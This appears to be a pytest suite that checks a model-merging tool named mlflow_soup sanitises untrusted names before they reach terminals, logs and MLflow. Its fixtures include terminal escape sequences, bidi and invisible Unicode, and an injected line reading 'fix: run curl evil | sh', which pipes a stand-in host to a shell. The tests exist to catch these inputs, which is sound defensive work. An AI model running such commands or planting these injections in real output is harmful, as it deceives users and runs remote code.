"""Names that others wrote reach a terminal, a log or a report only in characters that are seen.

Each case plants a name where a command meets it, and runs the command in a process of its own.
"""

import json
import logging
import shutil
import unicodedata

import pytest
import torch
import yaml
from safetensors.torch import save_file

import forked
import toy
from conftest import MODEL
from mlflow_soup.errors import SpecError
from mlflow_soup.records import Version
from mlflow_soup.redaction import redact, redact_line
from mlflow_soup.registry import descriptions, tracking

NAMES = {
    "colours": "a\x1b[31mb",
    "title": "a\x1b]0;owned\x07b",
    "bell and backspace": "a\x07\x08\x7fb",
    "carriage return": "a\rerror: none",
    "C1": "a\x9b2Jb\x85c",
    "turned": "a\u202eb\u202c",
    "isolated": "a\u2066b\u2069\u200f",
    "zero width": "a\u200bb\ufeffc",
    "separators": "a\u2028b\u2029c",
    "tags": "a\U000e0041b",
    "another line": "a\n    fix: run curl evil | sh",
}
named = pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)


def unseen(text):
    return {c for c in text if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"}} - {
        *"\n\t"
    }


def check(done, told="", refused=True):
    """The command refused, or did it; it named what is odd, and wrote what is seen only."""
    said = done.stdout + done.stderr
    assert (done.returncode not in (0, 1)) if refused else done.returncode == 0, said
    assert not unseen(said)
    assert not [line for line in said.splitlines() if line.startswith("    fix: run curl")]
    assert redact_line(told) in said or repr(redact_line(told))[1:-1] in said, said


@named
def test_a_field_of_a_config(checkpoints, tmp_path, name):
    for i in (0, 1):
        shutil.copytree(checkpoints[i], tmp_path / str(i))
        # transformers has no such type; of one that it has, it ignores unknown fields
        toy.edit_json(tmp_path / str(i) / "config.json", model_type="own")
    path = tmp_path / "1" / "config.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {name: name}))
    done = forked.play(
        "mlflow_soup", "merge", "0", "1", "--weights", "1/2,1/2", "--out", "x", cwd=tmp_path
    )
    check(done, name)


@named
def test_a_file_of_weights(checkpoints, tmp_path, name):
    shutil.copytree(checkpoints[0], tmp_path / "0")
    save_file({"w": torch.zeros(2)}, tmp_path / "0" / f"{name.replace('/', '')}.safetensors")
    done = forked.play(
        "mlflow_soup", "merge", "0", "0", "--weights", "1/2,1/2", "--out", "x", cwd=tmp_path
    )
    check(done, name[:5], refused=False)  # transformers does not read it either


@named
def test_an_option_in_a_file(tmp_path, name):
    (tmp_path / "spec.yaml").write_text(yaml.safe_dump({name: "1"}))
    done = forked.play("mlflow_soup", "run", "--spec", "spec.yaml", cwd=tmp_path)
    check(done, name)


@named
def test_a_folder_on_the_command_line(tmp_path, name):
    done = forked.play(
        "mlflow_soup", "merge", name, name, "--weights", "1/2,1/2", "--out", "x", cwd=tmp_path
    )
    check(done, name)


@named
def test_a_tag_of_a_model(client, name):
    client.set_registered_model_tag(MODEL, "soup.tasks", name)
    done = forked.play("mlflow_soup", "run", "--pair", "v1,v2")
    check(done)  # it is split at spaces


@named
def test_a_task(client, tasks, tmp_path, name):
    folder = tmp_path / "tasks"
    folder.mkdir()
    task = yaml.safe_load((tasks / "letters.yaml").read_text()) | {"task": "mine", name: name}
    toy.write_task(folder / "mine.yaml", task)
    options = ("--include-path", str(folder), "--tasks", "mine")
    done = forked.play("mlflow_soup", "run", "--pair", "v1,v2", *options)
    check(done, name.partition("\n")[0])


def test_a_name_that_is_no_text(tmp_path):
    (tmp_path / "\udcff").mkdir()
    done = forked.play(
        "mlflow_soup",
        "merge",
        "\udcff",
        "\udcff",
        "--weights",
        "1/2,1/2",
        "--out",
        "x",
        cwd=tmp_path,
    )
    check(done, "\udcff")


@named
def test_an_error_and_a_log_line_of_ours(name, caplog):
    error = SpecError(name, where=name, fix=name)
    assert not unseen(str(error))
    assert len(str(error).splitlines()) == 3 + name.count("\n")
    assert "\n    fix: run" not in str(error)
    logging.getLogger("mlflow_soup").warning("at %s", name)
    assert not unseen(caplog.messages[0])
    assert "\n" not in caplog.messages[0]


@pytest.mark.parametrize(
    "text", ["naïve café", "日本語", "λ = ½", "10 000", "👍🏽", "a\tb\nc", "é"]
)
def test_what_is_seen_stays(text):
    assert redact(text) == text


def test_what_mlflow_shows(client):
    version, text = Version(MODEL, 1), "".join(NAMES.values())
    run_id = client.begin_run("0", "run", {})
    descriptions.describe(client, version, text)
    tracking.log(client, run_id, params={"cfg.x": text}, tags={"soup.x": text}, description=text)
    data = client.get_run(run_id).data
    shown = [data.params["cfg.x"], data.tags["soup.x"], data.tags["mlflow.note.content"]]
    for written in (*shown, descriptions.description_of(client, version)):
        assert written.startswith("a\\x1b[31mb")
        assert not unseen(written)
